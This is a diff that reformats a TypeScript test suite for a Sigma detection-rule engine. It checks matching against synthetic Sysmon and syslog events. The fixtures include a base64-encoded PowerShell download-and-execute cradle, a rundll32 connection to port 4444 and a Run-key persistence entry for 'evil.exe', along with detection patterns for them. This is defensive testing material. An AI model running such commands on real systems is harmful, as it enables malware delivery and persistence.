@@ -23,23 +23,45 @@ const SYSMON = 'Microsoft-Windows-Sysmon/Operational';
 const REGRESSION_ACCOUNT = 2;
 
 function sysmon(eventId: number, data: Record<string, unknown>, computer = 'ws-1'): Record<string, unknown> {
-  return { Event: { System: { Provider: { '#attributes': { Name: 'Microsoft-Windows-Sysmon' } }, EventID: eventId, Channel: SYSMON, Computer: computer }, EventData: data } };
+  return {
+    Event: {
+      System: { Provider: { '#attributes': { Name: 'Microsoft-Windows-Sysmon' } }, EventID: eventId, Channel: SYSMON, Computer: computer },
+      EventData: data,
+    },
+  };
 }
 
 const encodedCommand = Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://10.1.2.3/a')", 'utf16le').toString('base64');
 
 /** Named events: the tests name what they expect to match. */
 const EVENTS: Record<string, Record<string, unknown>> = {
-  cmd: sysmon(1, { Image: 'C:\\Windows\\System32\\cmd.exe', CommandLine: 'cmd.exe /c whoami /all', ParentImage: 'C:\\Windows\\explorer.exe', User: 'CORP\\alice' }),
-  powershell: sysmon(1, {
-    Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
-    CommandLine: `powershell.exe -NoProfile -EncodedCommand ${encodedCommand}`,
-    ParentImage: 'C:\\Windows\\System32\\cmd.exe',
-    User: 'CORP\\bob',
-  }, 'ws-2'),
-  psexec: sysmon(1, { Image: 'C:\\Tools\\PsExec64.exe', CommandLine: 'PsExec64.exe \\\\host -accepteula cmd /c dir C:\\*.txt', User: 'CORP\\alice' }),
+  cmd: sysmon(1, {
+    Image: 'C:\\Windows\\System32\\cmd.exe',
+    CommandLine: 'cmd.exe /c whoami /all',
+    ParentImage: 'C:\\Windows\\explorer.exe',
+    User: 'CORP\\alice',
+  }),
+  powershell: sysmon(
+    1,
+    {
+      Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
+      CommandLine: `powershell.exe -NoProfile -EncodedCommand ${encodedCommand}`,
+      ParentImage: 'C:\\Windows\\System32\\cmd.exe',
+      User: 'CORP\\bob',
+    },
+    'ws-2',
+  ),
+  psexec: sysmon(1, {
+    Image: 'C:\\Tools\\PsExec64.exe',
+    CommandLine: 'PsExec64.exe \\\\host -accepteula cmd /c dir C:\\*.txt',
+    User: 'CORP\\alice',
+  }),
   connection: sysmon(3, { Image: 'C:\\Windows\\System32\\rundll32.exe', DestinationIp: '10.20.30.40', DestinationPort: 4444 }),
-  registry: sysmon(13, { Image: 'C:\\Windows\\System32\\reg.exe', TargetObject: 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\evil', Details: 'C:\\Users\\Public\\evil.exe' }),
+  registry: sysmon(13, {
+    Image: 'C:\\Windows\\System32\\reg.exe',
+    TargetObject: 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\evil',
+    Details: 'C:\\Users\\Public\\evil.exe',
+  }),
 };
 const SYSLOG: Record<string, string> = {
   sshFailed: '<38>Nov 25 11:00:01 bastion sshd[4242]: Failed password for invalid user admin from 203.0.113.9 port 52122 ssh2',
@@ -78,7 +100,12 @@ describe('Sigma rules on the engine', () => {
   async function matched(yaml: string, accountId = 1): Promise<string[]> {
     const [rule] = convertSigmaYaml(yaml);
     assert.ok(rule !== undefined);
-    const result = await store.search({ scope: { accounts: [{ accountId, fromMs: 0 }], toMs: null, types: null }, request: request(rule.query), receivedAtMostMs: null, after: null });
+    const result = await store.search({
+      scope: { accounts: [{ accountId, fromMs: 0 }], toMs: null, types: null },
+      request: request(rule.query),
+      receivedAtMostMs: null,
+      after: null,
+    });
     return result.hits.map((hit) => nameOf.get(hit.id) ?? regressionOwner.get(hit.id) ?? hit.id).sort();
   }
 
@@ -88,7 +115,10 @@ describe('Sigma rules on the engine', () => {
 
   before(async () => {
     dir = fs.mkdtempSync(path.join(os.tmpdir(), 'sigma-engine-'));
-    store = await openLogStore({ url: `chdb:${dir}`, memoryBytes: 1_000_000_000 }, { logger: pino({ level: 'silent' }), clock: { now: () => NOW } });
+    store = await openLogStore(
+      { url: `chdb:${dir}`, memoryBytes: 1_000_000_000 },
+      { logger: pino({ level: 'silent' }), clock: { now: () => NOW } },
+    );
     const context = { accountId: 1, docSizeSetting: false, defaultType: 'http-bulk', receivedAtMs: NOW };
     const documents: LogDocument[] = [];
     for (const [name, event] of Object.entries(EVENTS)) {
@@ -124,7 +154,10 @@ describe('Sigma rules on the engine', () => {
     assert.deepEqual(await matched(processRule("selection:\n  Image: 'c:\\windows\\system32\\CMD.EXE'\ncondition: selection")), ['cmd']);
     assert.deepEqual(await matched(processRule("selection:\n  Image: 'cmd.exe'\ncondition: selection")), []);
     // A backslash before `*` escapes it, so a path separator before a wildcard is written doubled.
-    assert.deepEqual(await matched(processRule("selection:\n  Image: '*\\System32\\\\*.exe'\ncondition: selection")), ['cmd', 'powershell']);
+    assert.deepEqual(await matched(processRule("selection:\n  Image: '*\\System32\\\\*.exe'\ncondition: selection")), [
+      'cmd',
+      'powershell',
+    ]);
     assert.deepEqual(await matched(processRule("selection:\n  User: 'corp\\alic?'\ncondition: selection")), ['cmd', 'psexec']);
   });
 
@@ -136,30 +169,61 @@ describe('Sigma rules on the engine', () => {
 
   it('applies contains, startswith, endswith and all', async () => {
     assert.deepEqual(await matched(processRule("selection:\n  CommandLine|contains: 'WHOAMI'\ncondition: selection")), ['cmd']);
-    assert.deepEqual(await matched(processRule("selection:\n  CommandLine|startswith: 'POWERSHELL.exe -no'\ncondition: selection")), ['powershell']);
-    assert.deepEqual(await matched(processRule("selection:\n  Image|endswith:\n    - '\\cmd.exe'\n    - '\\psexec64.exe'\ncondition: selection")), ['cmd', 'psexec']);
-    assert.deepEqual(await matched(processRule("selection:\n  CommandLine|contains|all:\n    - '/c'\n    - 'whoami'\ncondition: selection")), ['cmd']);
-    assert.deepEqual(await matched(processRule("selection:\n  CommandLine|contains|all:\n    - '/c'\n    - 'nothing-like-this'\ncondition: selection")), []);
+    assert.deepEqual(await matched(processRule("selection:\n  CommandLine|startswith: 'POWERSHELL.exe -no'\ncondition: selection")), [
+      'powershell',
+    ]);
+    assert.deepEqual(
+      await matched(processRule("selection:\n  Image|endswith:\n    - '\\cmd.exe'\n    - '\\psexec64.exe'\ncondition: selection")),
+      ['cmd', 'psexec'],
+    );
+    assert.deepEqual(
+      await matched(processRule("selection:\n  CommandLine|contains|all:\n    - '/c'\n    - 'whoami'\ncondition: selection")),
+      ['cmd'],
+    );
+    assert.deepEqual(
+      await matched(processRule("selection:\n  CommandLine|contains|all:\n    - '/c'\n    - 'nothing-like-this'\ncondition: selection")),
+      [],
+    );
   });
 
   it('matches regular expressions anywhere in the value, cased unless re|i', async () => {
     assert.deepEqual(await matched(processRule("selection:\n  CommandLine|re: '\\s/c\\s+who(ami)?\\s'\ncondition: selection")), ['cmd']);
     assert.deepEqual(await matched(processRule("selection:\n  CommandLine|re: 'WHOAMI'\ncondition: selection")), []);
     assert.deepEqual(await matched(processRule("selection:\n  CommandLine|re|i: 'WHOAMI'\ncondition: selection")), ['cmd']);
-    assert.deepEqual(await matched(processRule("selection:\n  Image|re: '^C:\\\\Windows\\\\[^\\\\]+\\\\cmd\\.exe$'\ncondition: selection")), ['cmd']);
+    assert.deepEqual(
+      await matched(processRule("selection:\n  Image|re: '^C:\\\\Windows\\\\[^\\\\]+\\\\cmd\\.exe$'\ncondition: selection")),
+      ['cmd'],
+    );
     assert.deepEqual(await matched(processRule("selection:\n  Image|re: '^cmd'\ncondition: selection")), []);
   });
 
   it('finds base64offset of a UTF-16 text and every windash spelling', async () => {
-    assert.deepEqual(await matched(processRule("selection:\n  CommandLine|wide|base64offset|contains: 'DownloadString'\ncondition: selection")), ['powershell']);
-    assert.deepEqual(await matched(processRule("selection:\n  CommandLine|base64offset|contains: 'DownloadString'\ncondition: selection")), []);
-    assert.deepEqual(await matched(processRule("selection:\n  CommandLine|contains|windash: ' -c '\ncondition: selection")), ['cmd', 'psexec']);
+    assert.deepEqual(
+      await matched(processRule("selection:\n  CommandLine|wide|base64offset|contains: 'DownloadString'\ncondition: selection")),
+      ['powershell'],
+    );
+    assert.deepEqual(
+      await matched(processRule("selection:\n  CommandLine|base64offset|contains: 'DownloadString'\ncondition: selection")),
+      [],
+    );
+    assert.deepEqual(await matched(processRule("selection:\n  CommandLine|contains|windash: ' -c '\ncondition: selection")), [
+      'cmd',
+      'psexec',
+    ]);
   });
 
   it('tests networks, numbers, presence and null', async () => {
-    assert.deepEqual(await matched(windowsRule('network_connection', "selection:\n  DestinationIp|cidr: '10.16.0.0/12'\ncondition: selection")), ['connection']);
-    assert.deepEqual(await matched(windowsRule('network_connection', "selection:\n  DestinationIp|cidr: '10.0.0.0/16'\ncondition: selection")), []);
-    assert.deepEqual(await matched(windowsRule('network_connection', 'selection:\n  DestinationPort|gte: 4444\ncondition: selection')), ['connection']);
+    assert.deepEqual(
+      await matched(windowsRule('network_connection', "selection:\n  DestinationIp|cidr: '10.16.0.0/12'\ncondition: selection")),
+      ['connection'],
+    );
+    assert.deepEqual(
+      await matched(windowsRule('network_connection', "selection:\n  DestinationIp|cidr: '10.0.0.0/16'\ncondition: selection")),
+      [],
+    );
+    assert.deepEqual(await matched(windowsRule('network_connection', 'selection:\n  DestinationPort|gte: 4444\ncondition: selection')), [
+      'connection',
+    ]);
     assert.deepEqual(await matched(windowsRule('network_connection', 'selection:\n  DestinationPort|lt: 4444\ncondition: selection')), []);
     assert.deepEqual(await matched(processRule('selection:\n  ParentImage|exists: false\ncondition: selection')), ['psexec']);
     assert.deepEqual(await matched(processRule('selection:\n  ParentImage: null\ncondition: selection')), ['psexec']);
@@ -167,19 +231,28 @@ describe('Sigma rules on the engine', () => {
   });
 
   it('keeps a rule to its log source', async () => {
-    assert.deepEqual(await matched(windowsRule('registry_set', "selection:\n  Image|endswith: '.exe'\ncondition: selection")), ['registry']);
+    assert.deepEqual(await matched(windowsRule('registry_set', "selection:\n  Image|endswith: '.exe'\ncondition: selection")), [
+      'registry',
+    ]);
     assert.deepEqual(await matched(windowsRule('file_event', "selection:\n  Image|endswith: '\\cmd.exe'\ncondition: selection")), []);
   });
 
   it('searches keywords in the log line', async () => {
-    const linux = (detection: string): string => `title: k\nlogsource:\n  product: linux\n  service: sshd\ndetection:\n${detection.replace(/^/gm, '  ')}\n`;
-    assert.deepEqual(await matched(linux("keywords:\n  - 'failed password for invalid user'\n  - 'Did not receive identification'\ncondition: keywords")), ['sshFailed']);
-    assert.deepEqual(await matched(linux("keywords:\n  '|all':\n    - 'Failed password'\n    - 'from 203.0.113.*'\ncondition: keywords")), ['sshFailed']);
+    const linux = (detection: string): string =>
+      `title: k\nlogsource:\n  product: linux\n  service: sshd\ndetection:\n${detection.replace(/^/gm, '  ')}\n`;
+    assert.deepEqual(
+      await matched(linux("keywords:\n  - 'failed password for invalid user'\n  - 'Did not receive identification'\ncondition: keywords")),
+      ['sshFailed'],
+    );
+    assert.deepEqual(await matched(linux("keywords:\n  '|all':\n    - 'Failed password'\n    - 'from 203.0.113.*'\ncondition: keywords")), [
+      'sshFailed',
+    ]);
     assert.deepEqual(await matched(linux("keywords:\n  - 'run-parts'\ncondition: keywords")), []);
   });
 
   it('combines searches with and, or, not, parentheses, 1 of, all of and them', async () => {
-    const searches = "selection_cmd:\n  Image|endswith: '\\cmd.exe'\nselection_alice:\n  User|endswith: '\\alice'\nfilter_whoami:\n  CommandLine|contains: 'whoami'\n";
+    const searches =
+      "selection_cmd:\n  Image|endswith: '\\cmd.exe'\nselection_alice:\n  User|endswith: '\\alice'\nfilter_whoami:\n  CommandLine|contains: 'whoami'\n";
     const rule = (condition: string): string => processRule(`${searches}condition: ${condition}`);
     assert.deepEqual(await matched(rule('selection_cmd and not filter_whoami')), []);
     assert.deepEqual(await matched(rule('1 of selection_*')), ['cmd', 'psexec']);
@@ -190,7 +263,9 @@ describe('Sigma rules on the engine', () => {
     assert.deepEqual(await matched(rule('(selection_cmd or filter_whoami) and not selection_alice')), []);
     assert.deepEqual(await matched(rule('not selection_alice')), ['powershell']);
     // A list of maps is any of them; a condition list is any of its conditions.
-    const listRule = processRule("selection:\n  - Image|endswith: '\\psexec64.exe'\n  - User: 'CORP\\bob'\ncondition:\n  - selection\n  - 'not selection'\n");
+    const listRule = processRule(
+      "selection:\n  - Image|endswith: '\\psexec64.exe'\n  - User: 'CORP\\bob'\ncondition:\n  - selection\n  - 'not selection'\n",
+    );
     assert.deepEqual(await matched(listRule), ['cmd', 'powershell', 'psexec']);
   });
 
@@ -213,7 +288,7 @@ describe('Sigma rules on the engine', () => {
       }
       assert.fail('expected a SigmaError');
     };
-    assert.equal(refused(processRule("selection:\n  User|fieldref: ParentUser\ncondition: selection")).construct, 'fieldref');
+    assert.equal(refused(processRule('selection:\n  User|fieldref: ParentUser\ncondition: selection')).construct, 'fieldref');
     assert.equal(refused(processRule("selection:\n  Image|re: '(?!cmd)'\ncondition: selection")).construct, 'regex');
     assert.equal(refused(processRule("selection:\n  SourceIp|cidr: 'fe80::/10'\ncondition: selection")).construct, 'cidr');
     assert.equal(refused(processRule("selection:\n  Image|expand: '%x%'\ncondition: selection")).construct, 'placeholder');
@@ -227,8 +302,14 @@ describe('Sigma rules on the engine', () => {
 
 /** SigmaHQ rules whose regression events the engine test ingests (process creation with windash and re, registry). */
 const DATASET_RULES = [
-  { id: '7c3a5b1d-9e2f-4a8c-b5d7-1e0f3c6a9b2d', file: 'rules-emerging-threats/2026/Exploits/CVE-2026-33829/proc_creation_win_exploit_cve_2026_33829.yml' },
+  {
+    id: '7c3a5b1d-9e2f-4a8c-b5d7-1e0f3c6a9b2d',
+    file: 'rules-emerging-threats/2026/Exploits/CVE-2026-33829/proc_creation_win_exploit_cve_2026_33829.yml',
+  },
   { id: '7090adee-82e2-4269-bd59-80691e7c6338', file: 'rules/windows/process_creation/proc_creation_win_chcp_codepage_lookup.yml' },
   { id: '916eb839-895e-47f8-99ee-3008bf377a3e', file: 'rules/windows/process_creation/proc_creation_win_curl_ntlm_hash_leak_attempt.yml' },
-  { id: '8b7273a4-ba5d-4d8a-b04f-11f2900d043a', file: 'rules/windows/registry/registry_set/registry_set_deviceguard_hypervisorenforcedcodeintegrity_disabled.yml' },
+  {
+    id: '8b7273a4-ba5d-4d8a-b04f-11f2900d043a',
+    file: 'rules/windows/registry/registry_set/registry_set_deviceguard_hypervisorenforcedcodeintegrity_disabled.yml',
+  },
 ];
